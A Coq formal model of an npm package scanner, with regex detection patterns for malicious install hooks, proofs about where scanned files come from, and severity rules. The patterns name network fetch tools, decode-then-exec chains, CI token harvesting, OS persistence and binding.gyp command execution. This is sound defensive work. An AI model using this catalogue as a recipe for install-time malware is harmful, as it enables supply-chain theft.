(* ===== verification/NpmInstall.v ===== *)
(** * npm install scripts ([src/pkgward/ecosystems/npm/installer.py])

    The lifecycle scripts of the root [package.json], the local files they execute or
    run in an interpreter, the [bin] and [main] entries, and [binding.gyp].
    [json.loads] is an argument ([None]: it raised [ValueError]).  Nothing in the
    extracted tree is a link, so [resolve] is lexical; an analysis that raises is [None]. *)
From S2P Require Import Prelude PyStr Text Regex RegexSyntax Findings Tree Json Binary Obfuscation Intel Score.
From Stdlib Require Import Ascii String.

Open Scope string_scope.
Open Scope list_scope.
Open Scope Z_scope.

Definition CATEGORY : string := "installer".
Definition npm (rule : string) (sev : severity) (conf : confidence) (rel ev : string) : Finding := mkFinding rule CATEGORY sev conf rel None ev.
(** The class of both quotes, as the patterns write it. *)
Definition QT : string := "['\" +:+ Q +:+ "]".

Definition _INSTALL_HOOKS : list string := ["preinstall"; "install"; "postinstall"; "prepare"].

(** ** Patterns *)

Definition _SHELL_NET : regex := compile icase
  ("\b(?:curl|wget|fetch|nc|ncat|certutil|bitsadmin|Invoke-WebRequest|iwr|" +:+ "scp|rsync)\b|https?://|ftp://").
Definition _SHELL_EXEC : regex := compile icase
  ("\b(?:sh|bash|zsh|cmd|powershell|pwsh)\b\s+-\w*c|" +:+ "\beval\b|\bexec\b|" +:+
   "\bnode\b\s+-e|\bpython3?\b\s+-c|\bperl\b\s+-e|\bruby\b\s+-e").
Definition _SHELL_DECODE : regex := compile icase
  ("base64\s+(?:-d|--decode)|\batob\b|\bxxd\b\s+-r|" +:+ "Buffer\.from\([^)]*" +:+ QT +:+ "base64" +:+ QT).
Definition _JS_NET : regex := compile icase
  ("require\(\s*" +:+ QT +:+ "(?:https?|net|dns|tls|dgram)" +:+ QT +:+ "\s*\)|" +:+
   "\b(?:fetch|axios|node-fetch|got|undici|superagent)\b|" +:+ "\bhttps?\.(?:get|request)\b|\bXMLHttpRequest\b").
Definition _JS_EXEC : regex := compile plain
  ("require\(\s*" +:+ QT +:+ "child_process" +:+ QT +:+ "\s*\)|" +:+
   "\bchild_process\b|\b(?:exec|execSync|spawn|spawnSync|execFile|fork)\s*\(|" +:+ "\beval\s*\(|new\s+Function\s*\(|process\.binding\s*\(").
Definition _JS_DECODE : regex := compile plain ("Buffer\.from\([^)]*" +:+ QT +:+ "base64" +:+ QT +:+ "|\batob\s*\(").
Definition _JS_HOST_RECON : regex := compile icase
  ("\bos\.(?:hostname|userInfo)\s*\(|" +:+ "\b(?:whoami|systeminfo)\b|\buname\s+-|\bid\s+-un\b|echo\s+%USERNAME%").
Definition _JS_NET_RECON : regex := compile icase "\bos\.networkInterfaces\s*\(|\b(?:ifconfig|ipconfig|ip\s+addr)\b".
Definition _JS_CI_HARVEST : regex := compile plain
  ("GITHUB_TOKEN|GITHUB_ACTOR|GITHUB_REPOSITORY|GH_TOKEN|" +:+ "NPM_TOKEN|NODE_AUTH_TOKEN|CIRCLECI|JENKINS_URL|GITLAB_CI").
Definition _JS_CHARCODE_DECODE : regex := compile plain "\bString\.fromCharCode\b|\.charCodeAt\s*\(|(?:\d{1,4}\s*,\s*){40,}".
Definition _JS_CRYPTO_DECRYPT : regex := compile plain "\bcreateDecipher(?:iv)?\s*\(".
Definition _JS_PERSISTENCE : regex := compile icase
  ("LaunchAgents|LaunchDaemons|\blaunchctl\b|\.plist\b" +:+ "|systemd[/\\]user|\bsystemctl\b" +:+
   "|CurrentVersion\\+Run|HKEY_CURRENT_USER|\bwscript\b|\.vbs\b" +:+ "|[/\\]\.config[/\\]autostart" +:+ "|\bcrontab\b|/etc/cron").
Definition _JS_DETACHED_SPAWN : regex := compile icase "detached\s*:\s*true".
Definition _ENCODED_PAYLOAD : regex := compile plain "[A-Za-z0-9+/]{200,}={0,2}|(?:\\x[0-9a-fA-F]{2}){50,}".
Definition _JS_WRITE : regex := compile icase "createWriteStream|writeFileSync?\b|\.pipe\s*\(|\bpipeline\s*\(|fs\.write\b".
Definition _JS_CHMOD_EXEC : regex := compile icase
  ("chmod(?:Sync)?\s*\([^)]*0o?[0-7]*[1357][0-7]{2}" +:+ "|chmod(?:Sync)?\s*\([^)]*S_I(?:RWX|X)(?:USR|GRP|OTH)?" +:+
   "|\bchmod\s+\+x\b" +:+ "|\bchmod\s+0?[0-7]*[1357][0-7]{2}\b").
Definition _URL_HOST : regex := compile icase "https?://([A-Za-z0-9.\-]+)".
Definition _CHECKSUM_VERIFY : regex := compile icase ("createHash\s*\(\s*" +:+ QT +:+ "sha(?:256|512)" +:+ QT).
Definition _GITHUB_SHORT : regex := compile plain "^[\w-]+/[\w.-]+$".
Definition _LOCAL_SCRIPT_REF : regex := compile plain "(?:^|\s)(?:\./)?([\w./-]+\.(?:[cm]?jsx?|[cm]?tsx?))\b".
Definition _INTERP_SCRIPT_REF : regex := compile plain
  "(?:^|[\s;&|()])(?:node|tsx|ts-node|babel-node)\s+(?:--?\S+\s+)*(?:\./)?([\w./-]+)".
Definition _SHELL_SEPARATORS : regex := compile plain "&&|\|\||;|\|".
Definition _GYP_CMD_EXPANSION : regex := compile plain "<!@?\(([^)]*)\)".
Definition _GYP_RUNS_SCRIPT_FILE : regex := compile plain
  ("\b(?:node|bun|deno|sh|bash|zsh|python[0-9.]*|ruby|perl)\s+[^\s|&;<>]*\." +:+ "(?:js|cjs|mjs|ts|sh|bash|py|rb|pl)\b").
Definition _GYP_CONFIG_EVAL : regex := compile plain "^\s*(?:node|bun|deno|python[0-9.]*)\s+(?:-p|-e|--print|--eval|-c)\b".
Definition _GYP_SHELL_OP : regex := compile plain "&&|\|\||;|\||>|2>&1|`|\$\(".
Definition _GYP_FETCH : regex := compile plain "\b(?:curl|wget|fetch|Invoke-WebRequest|iwr)\b".

Definition _RESOLVE_EXTS : list string := [".js"; ".cjs"; ".mjs"; ".ts"; ".cts"; ".mts"].
Definition _JS_TS_SUFFIXES : list string := [".js"; ".cjs"; ".mjs"; ".jsx"; ".ts"; ".cts"; ".mts"; ".tsx"].
Definition _SUSPICIOUS_BIN_EXT : list string := [".sh"; ".ps1"; ".bat"; ".cmd"; ".exe"; ".dll"; ".so"; ".bin"].
Definition _SHELL_INTERPS : list string := ["sh"; "bash"; "dash"; "zsh"; "ksh"; "ash"].
Definition _RUNTIME_ENTRY_RESOLVE_EXTS : list string := [""; ".js"; ".cjs"; ".mjs"; "/index.js"].
Definition _TRUSTED_RELEASE_HOSTS : list string :=
  ["github.com"; "githubusercontent.com"; "codeload.github.com"; "registry.npmjs.org"; "npmjs.org"; "npmmirror.com";
   "registry.yarnpkg.com"; "nodejs.org"; "github.io"; "gitlab.com"; "bitbucket.org"].
Definition _BUILTIN_BENIGN : list string :=
  ["node-gyp"; "node-gyp-build"; "prebuild-install"; "prebuildify"; "tsc"; "tsup"; "webpack"; "rollup"; "vite"; "esbuild"; "babel";
   "gulp"; "grunt"; "parcel"; "rimraf"; "mkdirp"; "cpy"; "copyfiles"; "eslint"; "prettier"; "jest"; "mocha"; "husky"; "patch-package";
   "npm"; "yarn"; "pnpm"; "echo"; "true"; "exit"; "cd"; "node"; "is-ci"; "cross-env"; "shx"; "ncc"; "tscw"; "nest"; "ng"].

(** ** JSON values *)

(** A decoded object as a dictionary: a repeated key keeps its place and its last value. *)
Definition dict_of (o : list (string * json)) : list (string * json) := fold_left (fun d kv => dset kv.1 kv.2 d) o [].
Definition str_value (v : json) : option string := match v with JStr s => Some s | _ => None end.

(** ** Hosts *)

Definition host_of_field (f : string) : option string :=
  match search _URL_HOST f with
  | Some m => Some (lower (group_or f 1 m))
  | None =>
      if startswith f "gitlab:" then Some "gitlab.com"
      else if startswith f "bitbucket:" then Some "bitbucket.org"
      else if startswith f "github:" || found_at_start _GITHUB_SHORT f then Some "github.com"
      else None
  end.
Definition url_field (v : json) : list string :=
  match v with
  | JStr s => [s]
  | JObj o => match jget "url" o JNull with JStr s => [s] | _ => [] end
  | _ => []
  end.
Definition _declared_hosts (data : list (string * json)) : list string :=
  dedup (omap host_of_field
    (url_field (jget "repository" data JNull) ++ url_field (jget "bugs" data JNull) ++ option_list (str_value (jget "homepage" data JNull)))).

Definition _host_trusted (host : string) (declared_hosts : list string) : bool :=
  let host := lower host in
  existsb (host_under host) _TRUSTED_RELEASE_HOSTS || existsb (fun d => host_under host d || endswith d ("." +:+ host)) declared_hosts.

(** ** One script *)

Definition segments (script : string) : list string := map strip (re_split _SHELL_SEPARATORS script).

Section Npm.
(** [intel.current().npm_benign_tools]. *)
Variable npm_benign_tools : list string.

Definition _benign_tools : list string := match npm_benign_tools with [] => _BUILTIN_BENIGN | l => map lower l end.

(** What a segment says: nothing, a benign command, or anything else. *)
Inductive segment_kind := SegBlank | SegBenign | SegOther.
Definition segment_is (seg : string) : segment_kind :=
  if negb (truthy seg) then SegBlank
  else match shlex_split seg with
  | None => SegOther
  | Some [] => SegBlank
  | Some (t0 :: ts) =>
      let head := lower (path_name t0) in
      if String.eqb head "node" && match ts with t1 :: _ => negb (startswith t1 "-") | [] => false end then SegOther
      else if str_in head _benign_tools then SegBenign else SegOther
  end.
Fixpoint all_benign (saw_cmd : bool) (segs : list string) : bool :=
  match segs with
  | [] => saw_cmd
  | seg :: segs' => match segment_is seg with SegBlank => all_benign saw_cmd segs' | SegBenign => all_benign true segs' | SegOther => false end
  end.
Definition _is_benign_script (script : string) : bool := all_benign false (segments script).

Definition _analyze_script (name script rel : string) : list Finding :=
  if _is_benign_script script then []
  else
    let has_net := found _SHELL_NET script in
    let has_exec := found _SHELL_EXEC script in
    let has_decode := found _SHELL_DECODE script in
    if has_net && (has_exec || has_decode) then
      [npm "installer.npm_lifecycle_net_exec" SCritical CHigh rel (name +:+ " script chains network fetch + exec/decode: " +:+ str_take 160 script)]
    else if has_net then
      [npm "installer.npm_lifecycle_network" SHigh CMedium rel (name +:+ " script makes a network call: " +:+ str_take 160 script)]
    else if has_exec || has_decode then
      [npm "installer.npm_lifecycle_subprocess" SMedium CMedium rel (name +:+ " script runs a shell/eval: " +:+ str_take 160 script)]
    else [].

(** ** Files *)

(** The parts of the extraction directory, resolved; the files in it; and whether a path
    outside of it is a file ([None]: asking raises). *)
Variables (root : list string) (tree : list tree_file) (host_file : list string -> option bool).

Definition path_step (acc : list string) (p : string) : list string :=
  if String.eqb p "" || String.eqb p "." then acc else if String.eqb p ".." then removelast acc else acc ++ [p].
(** [(base / cand).resolve()]; a null byte in the path raises. *)
Definition resolve (base : list string) (cand : string) : option (list string) :=
  if has_char NUL cand then None
  else Some (fold_left path_step (split "/" cand) (if startswith cand "/" then [] else base)).

(** [p.relative_to(base)]. *)
Fixpoint relative_to (p base : list string) {struct base} : option (list string) :=
  match base, p with
  | [], _ => Some p
  | b :: base', x :: p' => if String.eqb b x then relative_to p' base' else None
  | _ :: _, [] => None
  end.

Definition file_at (parts : list string) : option tree_file := List.find (fun f => bool_decide (tf_parts f = parts)) tree.
Definition dir_exists (parts : list string) : bool :=
  match parts with [] => true | _ => existsb (fun f => bool_decide (parts `prefix_of` tf_parts f) && negb (bool_decide (tf_parts f = parts))) tree end.
(** A name beyond [NAME_MAX] in a directory that exists, or a path beyond [PATH_MAX]. *)
Fixpoint long_name (dir parts : list string) : bool :=
  match parts with
  | [] => false
  | p :: parts' => dir_exists dir && ((255 <? len p)%nat || long_name (dir ++ [p]) parts')
  end.
Definition is_file (p : list string) : option (option tree_file) :=
  match relative_to p root with
  | Some parts => if (4095 <? len ("/" +:+ join "/" p))%nat || long_name [] parts then None else Some (file_at parts)
  | None => (fun _ => None) <$> host_file p
  end.
(** A file outside of the tree, which is known only to exist. *)
Definition exists_file (p : list string) : option bool :=
  match relative_to p root with Some _ => (fun o => bool_decide (is_Some o)) <$> is_file p | None => host_file p end.

Section Package.
(** The directory of the manifest, below the root, and the prefix of reported paths. *)
Variables (pkg_dir : list string) (rel_prefix : string).
Definition pkg_root : list string := root ++ pkg_dir.

(** [tgt.relative_to(pkg_root)] does not raise. *)
Definition inside (p : list string) : bool := bool_decide (is_Some (relative_to p pkg_root)).

(** ** Bundled executables *)

Definition executed_ref (tokens : list string) : option string :=
  match tokens with
  | [] => None
  | t0 :: ts =>
      let cand := if str_in (lower (path_name t0)) _SHELL_INTERPS && negb (bool_decide (ts = [])) then
                    default t0 (List.find (fun t => negb (startswith t "-")) ts)
                  else t0 in
      if negb (has_char "/" cand) && negb (startswith cand ".") then None else Some cand
  end.
Definition executed_target (seg : string) : option (list (string * tree_file)) :=
  match shlex_split seg ≫= executed_ref with
  | None => Some []
  | Some cand =>
      tgt ← resolve pkg_root cand;
      if inside tgt then
        o ← is_file tgt;
        Some match o with Some f => [(cand, f)] | None => [] end
      else Some []
  end.
Definition _executed_local_targets (script : string) : option (list (string * tree_file)) :=
  @List.concat _ <$> mapM executed_target (bfilter truthy (segments script)).

Definition bundled_finding (hook : string) (rt : string * tree_file) : list Finding :=
  let '(ref, tgt) := rt in
  let rel := rel_prefix +:+ ref in
  if looks_like_compiled_binary tgt then
    [npm "installer.npm_install_runs_bundled_binary" SCritical CHigh rel (hook +:+ " hook directly executes a bundled native binary: " +:+ ref)]
  else if negb (str_in (path_suffix_lower ref) _JS_TS_SUFFIXES) then
    [npm "installer.npm_install_runs_bundled_file" SHigh CMedium rel (hook +:+ " hook directly executes a bundled non-JS file: " +:+ ref)]
  else [].
Definition _analyze_bundled_exec (hook script : string) : option (list Finding) :=
  targets ← _executed_local_targets script;
  Some (flat_map (bundled_finding hook) targets).

(** ** Referenced scripts *)

(** [_add]: the first reference to a resolved path counts. *)
Definition candidate : Type := string * list string.
Definition add (cands : list candidate) (ref : string) (tgt : list string) : list candidate :=
  if existsb (fun c => bool_decide (c.2 = tgt)) cands then cands else cands ++ [(ref, tgt)].
Definition _add (cands : list candidate) (ref : string) : option (list candidate) := add cands ref <$> resolve pkg_root ref.

(** The first extension under which the reference is a file. *)
Fixpoint first_ext (ref : string) (exts : list string) : option (option string) :=
  match exts with
  | [] => Some None
  | ext :: exts' =>
      p ← resolve pkg_root (ref +:+ ext);
      b ← exists_file p;
      if (b : bool) then Some (Some (ref +:+ ext)) else first_ext ref exts'
  end.
(** [pkg_dir / ref / "index.js"]. *)
Definition index_of (ref : string) : option bool := p ← resolve pkg_root (ref +:+ "/index.js"); exists_file p.
Definition add_interp (cands : list candidate) (ref : string) : option (list candidate) :=
  if str_in (path_suffix_lower ref) _JS_TS_SUFFIXES then Some cands
  else
    found ← first_ext ref _RESOLVE_EXTS;
    match found with
    | Some r => _add cands r
    | None =>
        b ← index_of ref;
        if (b : bool) then _add cands (rstrip_char "/" ref +:+ "/index.js") else Some cands
    end.
Fixpoint foldM {A B} (h : A -> B -> option A) (a : A) (l : list B) : option A :=
  match l with [] => Some a | b :: l' => a' ← h a b; foldM h a' l' end.
Definition candidates (script : string) : option (list candidate) :=
  locals ← foldM _add [] (findall _LOCAL_SCRIPT_REF script);
  foldM add_interp locals (findall _INTERP_SCRIPT_REF script).

Definition _recon_findings (content rel : string) : list Finding :=
  let host := found _JS_HOST_RECON content in
  let netr := found _JS_NET_RECON content in
  let ci := found _JS_CI_HARVEST content in
  (if host then [npm "installer.npm_install_host_recon" SMedium CMedium rel "install script gathers host info (hostname/user/whoami/uname)"] else []) ++
  (if netr then [npm "installer.npm_install_network_recon" SMedium CMedium rel "install script enumerates network interfaces / internal IPs"] else []) ++
  (if ci then [npm "installer.npm_install_ci_secret_harvest" SHigh CMedium rel "install script reads CI / GitHub Actions secrets or tokens"] else []) ++
  (if (host || netr || ci) && found _JS_NET content then
     [npm "installer.npm_install_recon_exfil" SHigh CHigh rel "install script collects system/network/CI recon and sends it over the network"] else []).

Definition drop_findings (declared_hosts : list string) (content rel : string) : list Finding :=
  if found _JS_NET content && found _JS_WRITE content && found _JS_CHMOD_EXEC content then
    let hosts := dedup (map lower (findall _URL_HOST content)) in
    match py_sorted (bfilter (fun h => negb (_host_trusted h declared_hosts)) hosts) with
    | _ :: _ as untrusted =>
        if found _CHECKSUM_VERIFY content then
          [npm "installer.npm_install_remote_binary_drop" SLow CMedium rel
            ("checksum-verified prebuilt-binary download (legit native-wrapper pattern); hosts: " +:+ join ", " (firstn 3 untrusted))]
        else
          [npm "installer.npm_install_remote_binary_drop" SHigh CHigh rel
            ("install script downloads + chmod-executes a binary from a host unrelated to the package repo: " +:+ join ", " (firstn 3 untrusted))]
    | [] =>
        match hosts with
        | [] => [npm "installer.npm_install_remote_binary_drop" SMedium CMedium rel "install script downloads + chmod-executes a binary from a dynamic URL"]
        | _ => []
        end
    end
  else [].

Definition script_findings (declared_hosts : list string) (content rel : string) : list Finding :=
  let has_net := found _JS_NET content in
  let has_exec := found _JS_EXEC content in
  let has_persist := found _JS_PERSISTENCE content in
  let has_detached := found _JS_DETACHED_SPAWN content in
  _recon_findings content rel ++
  (if has_net && has_exec then
     [npm "installer.npm_install_script_net_exec" SCritical CHigh rel "install script JS contains both network and child_process/eval"]
   else if has_net then
     [npm "installer.npm_install_script_network" SHigh CMedium rel "install script JS makes a network call"]
   else []) ++
  (if found _JS_DECODE content && has_exec then
     [npm "installer.npm_install_script_decode_exec" SHigh CMedium rel "install script JS decodes base64 then executes"] else []) ++
  (if has_exec && (found _JS_CHARCODE_DECODE content || found _JS_CRYPTO_DECRYPT content) then
     [npm "installer.npm_install_obfuscated_entrypoint" SCritical CHigh rel
       "install hook runs a local script that self-decodes (char-code / runtime-crypto) into eval/Function"] else []) ++
  (if has_persist && has_detached then
     [npm "installer.npm_install_persistence_loader" SCritical CHigh rel
       "install hook registers OS persistence + detaches a background process (resident-agent loader)"]
   else
     (if has_persist then
        [npm "installer.npm_install_persistence" SHigh CHigh rel
          "install hook registers OS persistence (systemd/launchd/Run-key/autostart/cron)"] else []) ++
     (if has_detached then
        [npm "installer.npm_install_detached_spawn" SHigh CMedium rel "install hook spawns a detached, unref'd background process"] else [])) ++
  (if found _ENCODED_PAYLOAD content then
     [npm "installer.npm_install_script_encoded_payload" SMedium CMedium rel "large encoded payload in install script JS"] else []) ++
  drop_findings declared_hosts content rel.

Definition followed_findings (declared_hosts : list string) (c : candidate) : option (list Finding) :=
  let '(ref, target) := c in
  if inside target then
    o ← is_file target;
    Some match o with
         | Some f =>
             if looks_like_compiled_binary f then []
             else match tf_data f with Some data => script_findings declared_hosts (read_text data) (rel_prefix +:+ ref) | None => [] end
         | None => []
         end
  else Some [].
Definition _analyze_referenced_js (script : string) (declared_hosts : list string) : option (list Finding) :=
  cands ← candidates script;
  @List.concat _ <$> mapM (followed_findings declared_hosts) cands.

(** ** [bin] and [main] *)

(** Values that are no strings print without one of the suffixes. *)
Definition bin_targets (bin_field : json) : list string :=
  match bin_field with JStr s => [s] | JObj o => omap str_value (dict_of o).*2 | _ => [] end.
Definition _analyze_bin (bin_field : json) (rel : string) : list Finding :=
  flat_map (fun t => if str_in (path_suffix_lower t) _SUSPICIOUS_BIN_EXT then
    [npm "installer.npm_suspicious_bin" SLow CLow rel ("bin entry points to a script/binary: " +:+ t)] else []) (bin_targets bin_field).

Definition entry_refs (data : list (string * json)) : list string :=
  match jget "main" data JNull with JStr s => if truthy s then s else "index.js" | _ => "index.js" end :: bin_targets (jget "bin" data JNull).

(** One reference: the first form that is a new file inside the package; a form outside ends the search. *)
Fixpoint resolve_entry (seen : list tree_file) (ref : string) (exts : list string) : option (option tree_file) :=
  match exts with
  | [] => Some None
  | ext :: exts' =>
      cand ← resolve pkg_root (ref +:+ ext);
      if inside cand then
        o ← is_file cand;
        match o with
        | Some f => if existsb (fun g => bool_decide (tf_parts g = tf_parts f)) seen then resolve_entry seen ref exts' else Some (Some f)
        | None => resolve_entry seen ref exts'
        end
      else Some None
  end.
Definition entry_step (out : list (string * tree_file)) (ref : string) : option (list (string * tree_file)) :=
  let ref := lstrip_chars "./" ref in
  o ← resolve_entry out.*2 ref _RUNTIME_ENTRY_RESOLVE_EXTS;
  Some (out ++ match o with Some f => [(ref, f)] | None => [] end).
Definition _resolve_runtime_entries (data : list (string * json)) : option (list (string * tree_file)) := foldM entry_step [] (entry_refs data).

Definition is_main (data : list (string * json)) (ref : string) : bool :=
  let main := jget "main" data JNull in
  if json_truthy main then match main with JStr s => String.eqb ref s | _ => false end else String.eqb ref "index.js".
Definition entry_findings (data : list (string * json)) (rt : string * tree_file) : list Finding :=
  let '(ref, target) := rt in
  let rel := rel_prefix +:+ ref in
  if _is_build_bundle rel || looks_like_compiled_binary target then []
  else match tf_data target with
  | None => []
  | Some bytes =>
      let content := text_replaced bytes in
      let charcode := _charcode_feeds_eval content in
      if charcode || _crypto_feeds_eval content then
        [npm "installer.npm_runtime_obfuscated_entrypoint" SCritical CHigh rel
          ("package " +:+ (if is_main data ref then "main" else "bin") +:+ " entry self-decodes (" +:+
           (if charcode then "char-code" else "runtime-crypto") +:+ ") into eval/Function — the whole module is an opaque runtime loader")]
      else []
  end.
Definition _analyze_runtime_entrypoints (data : list (string * json)) : option (list Finding) :=
  entries ← _resolve_runtime_entries data;
  Some (flat_map (entry_findings data) entries).

End Package.

(** ** The manifest *)

Variable loads : string -> option json.

Definition hook_findings (pkg_dir : list string) (rel_prefix rel : string) (declared_hosts : list string)
    (scripts : list (string * json)) (hook : string) : option (list Finding) :=
  match jget hook scripts JNull with
  | JStr script =>
      if negb (truthy (strip script)) then Some []
      else
        bundled ← _analyze_bundled_exec pkg_dir rel_prefix hook script;
        followed ← _analyze_referenced_js pkg_dir rel_prefix script declared_hosts;
        Some (_analyze_script hook script rel ++ bundled ++ followed)
  | _ => Some []
  end.

Definition prefix_of_dir (pkg_dir : list string) : string := match pkg_dir with [] => "" | _ => join "/" pkg_dir +:+ "/" end.
Definition _analyze_manifest (manifest : tree_file) : option (list Finding) :=
  match (tf_data manifest ≫= fun data => loads (read_text data)) with
  | Some (JObj data) =>
      let pkg_dir := removelast (tf_parts manifest) in
      let rel := real_path manifest in
      let rel_prefix := prefix_of_dir pkg_dir in
      let declared_hosts := _declared_hosts data in
      hooks ← match jget "scripts" data JNull with
              | JObj scripts => @List.concat _ <$> mapM (hook_findings pkg_dir rel_prefix rel declared_hosts scripts) _INSTALL_HOOKS
              | _ => Some []
              end;
      entries ← _analyze_runtime_entrypoints pkg_dir rel_prefix data;
      Some (hooks ++ _analyze_bin (jget "bin" data JNull) rel ++ entries)
  | _ => Some []
  end.

(** ** [binding.gyp] *)

Definition gyp_command (content : string) (m : mtch) : string :=
  strip (strip_chars (Q +:+ "'") (strip (group_or content 1 m))).
Definition gyp_runs_script (cmd : string) : bool := found _GYP_RUNS_SCRIPT_FILE cmd.
Definition gyp_config_read (cmd : string) : bool :=
  found_at_start _GYP_CONFIG_EVAL cmd && negb (gyp_runs_script cmd || found _GYP_SHELL_OP cmd || found _GYP_FETCH cmd).
Definition gyp_finding (rel cmd : string) : Finding :=
  npm "installer.npm_binding_gyp_command_exec" (if gyp_runs_script cmd || found _GYP_FETCH cmd then SCritical else SHigh) CHigh rel
    ("binding.gyp runs code at install time via node-gyp command-expansion (bypasses lifecycle scripts): <!(" +:+ str_take 140 cmd +:+ ")").
Definition _binding_gyp_findings (content rel : string) : list Finding :=
  map (gyp_finding rel)
    (dedup (bfilter (fun cmd => truthy cmd && negb (gyp_config_read cmd)) (map (gyp_command content) (finditer _GYP_CMD_EXPANSION content)))).

(** ** [analyze_install_scripts] *)

(** Top-level directories, in walk order. *)
Definition top_dirs : list string := dedup (omap (fun f => match tf_parts f with d :: _ :: _ => Some d | _ => None end) tree).
Definition _root_package_json_paths : list tree_file :=
  option_list (file_at ["package.json"]) ++
  omap (fun d => if String.eqb d "node_modules" then None else file_at [d; "package.json"]) top_dirs.

Definition gyp_of (manifest : tree_file) : list Finding :=
  match file_at (removelast (tf_parts manifest) ++ ["binding.gyp"]) with
  | Some gyp => _binding_gyp_findings (default "" (tf_data gyp)) (real_path gyp)
  | None => []
  end.
Definition analyze_install_scripts : option (list Finding) :=
  fss ← mapM (fun manifest => fs ← _analyze_manifest manifest; Some (fs ++ gyp_of manifest)) _root_package_json_paths;
  Some (List.concat fss).

End Npm.

Lemma npm_patterns_compiled : forallb compiled
  [_SHELL_NET; _SHELL_EXEC; _SHELL_DECODE; _JS_NET; _JS_EXEC; _JS_DECODE; _JS_HOST_RECON; _JS_NET_RECON; _JS_CI_HARVEST; _JS_CHARCODE_DECODE;
   _JS_CRYPTO_DECRYPT; _JS_PERSISTENCE; _JS_DETACHED_SPAWN; _ENCODED_PAYLOAD; _JS_WRITE; _JS_CHMOD_EXEC; _URL_HOST; _CHECKSUM_VERIFY;
   _GITHUB_SHORT; _LOCAL_SCRIPT_REF; _INTERP_SCRIPT_REF; _SHELL_SEPARATORS; _GYP_CMD_EXPANSION; _GYP_RUNS_SCRIPT_FILE; _GYP_CONFIG_EVAL;
   _GYP_SHELL_OP; _GYP_FETCH] = true.
Proof. by vm_compute. Qed.

(** ** Where files come from *)

Lemma relative_to_app base rest : relative_to (base ++ rest) base = Some rest.
Proof. induction base as [|b base IH]; [done|]. cbn. by rewrite String.eqb_refl. Qed.

Lemma relative_to_Some p base rest : relative_to p base = Some rest <-> p = base ++ rest.
Proof.
  split; [|intros ->; apply relative_to_app]. revert p. induction base as [|b base IH]; intros p; cbn; [by intros [= <-]|].
  destruct p as [|x p]; [done|]. destruct (String.eqb_spec b x) as [->|]; [|done]. by intros ->%IH.
Qed.

Section Sources.
Context (benign root : list string) (tree : list tree_file) (host_file : list string -> option bool) (pkg_dir : list string) (rel_prefix : string).
Notation is_file := (is_file root tree host_file).
Notation inside := (inside root pkg_dir).

(** The file a resolved path stands for is a file of the package. *)
Definition of_package (f : tree_file) : Prop := f ∈ tree /\ pkg_dir `prefix_of` tf_parts f.

Lemma file_at_Some parts f : file_at tree parts = Some f -> f ∈ tree /\ tf_parts f = parts.
Proof. intros [H1 H2]%find_some. split; [by apply list_elem_of_In|by apply bool_decide_eq_true in H2]. Qed.

Lemma inside_spec p : inside p = true <-> exists rest, p = root ++ pkg_dir ++ rest.
Proof.
  unfold NpmInstall.inside, pkg_root. rewrite bool_decide_eq_true. split.
  - intros [rest H%relative_to_Some]. exists rest. by rewrite H, app_assoc.
  - intros [rest ->]. exists rest. rewrite app_assoc. apply relative_to_app.
Qed.

Lemma is_file_inside p f : inside p = true -> is_file p = Some (Some f) -> of_package f.
Proof.
  intros [rest ->]%inside_spec. unfold NpmInstall.is_file. rewrite relative_to_app. case_match; [done|]. intros [= Hfile].
  apply file_at_Some in Hfile as [Hf Hp]. split; [done|]. rewrite Hp. by exists rest.
Qed.

Lemma executed_of_package script l ref f : _executed_local_targets root tree host_file pkg_dir script = Some l -> (ref, f) ∈ l -> of_package f.
Proof.
  unfold _executed_local_targets. intros (ls & Hm & ->)%fmap_Some (seg & ts & _ & Ht & Hin)%(mapM_concat _ _ _ _ Hm).
  unfold executed_target in Ht. destruct (shlex_split seg ≫= executed_ref) as [cand|]; [|injection Ht as <-; by apply elem_of_nil in Hin].
  apply bind_Some in Ht as (tgt & _ & Ht). destruct (inside tgt) eqn:Ei; [|injection Ht as <-; by apply elem_of_nil in Hin].
  apply bind_Some in Ht as ([g|] & Hg & [= <-]); [|by apply elem_of_nil in Hin].
  apply list_elem_of_singleton in Hin as [= -> ->]. by eapply is_file_inside.
Qed.

Lemma followed_of_package hosts c fs g : followed_findings root tree host_file pkg_dir rel_prefix hosts c = Some fs -> g ∈ fs ->
  exists f data, of_package f /\ tf_data f = Some data /\ looks_like_compiled_binary f = false /\
    g ∈ script_findings hosts (read_text data) (rel_prefix +:+ c.1).
Proof.
  unfold followed_findings. destruct c as [ref tgt]. destruct (inside tgt) eqn:Ei; [|by intros [= <-] ?%elem_of_nil].
  intros (o & Ho & [= <-])%bind_Some. destruct o as [f|]; [|by intros ?%elem_of_nil].
  destruct (looks_like_compiled_binary f) eqn:Eb; [by intros ?%elem_of_nil|]. destruct (tf_data f) as [data|] eqn:Ed; [|by intros ?%elem_of_nil].
  intros Hg. exists f, data. split_and!; [by eapply is_file_inside|done|done|done].
Qed.

Lemma resolve_entry_of_package seen ref exts f : resolve_entry root tree host_file pkg_dir seen ref exts = Some (Some f) -> of_package f.
Proof.
  induction exts as [|ext exts IH]; cbn [resolve_entry]; [done|]. intros (cand & _ & H)%bind_Some.
  destruct (inside cand) eqn:Ei; [|done]. apply bind_Some in H as (o & Ho & H). destruct o as [g|]; [|by apply IH].
  destruct (existsb _ seen); [by apply IH|]. injection H as <-. by eapply is_file_inside.
Qed.

Lemma entries_of_package data l : _resolve_runtime_entries root tree host_file pkg_dir data = Some l -> Forall (fun rt => of_package rt.2) l.
Proof.
  unfold _resolve_runtime_entries. assert (Forall (fun rt : string * tree_file => of_package rt.2) []) as H by constructor. revert H.
  generalize (@nil (string * tree_file)) (entry_refs data). intros out refs. revert out.
  induction refs as [|ref refs IH]; intros out Hout; cbn [foldM]; [by intros [= <-]|].
  intros (out' & Hs & Hl)%bind_Some. apply (IH out'); [|done]. unfold entry_step in Hs. apply bind_Some in Hs as (o & Ho & [= <-]).
  apply Forall_app. split; [done|]. destruct o as [f|]; [|constructor]. constructor; [|constructor]. by eapply resolve_entry_of_package.
Qed.
(** ** The scripts that are followed *)

Definition has_target (tgt : list string) (cands : list candidate) : Prop := exists ref, (ref, tgt) ∈ cands.

Lemma add_target cands ref tgt : has_target tgt (add cands ref tgt).
Proof.
  unfold add. case_match eqn:E; [|exists ref; apply elem_of_app; right; by left].
  apply existsb_true in E as ([r t] & Hc & H%bool_decide_eq_true). cbn in H. subst t. by exists r.
Qed.
Lemma add_keeps cands ref tgt t : has_target t cands -> has_target t (add cands ref tgt).
Proof. intros [r Hr]. exists r. unfold add. case_match; [done|]. apply elem_of_app. by left. Qed.

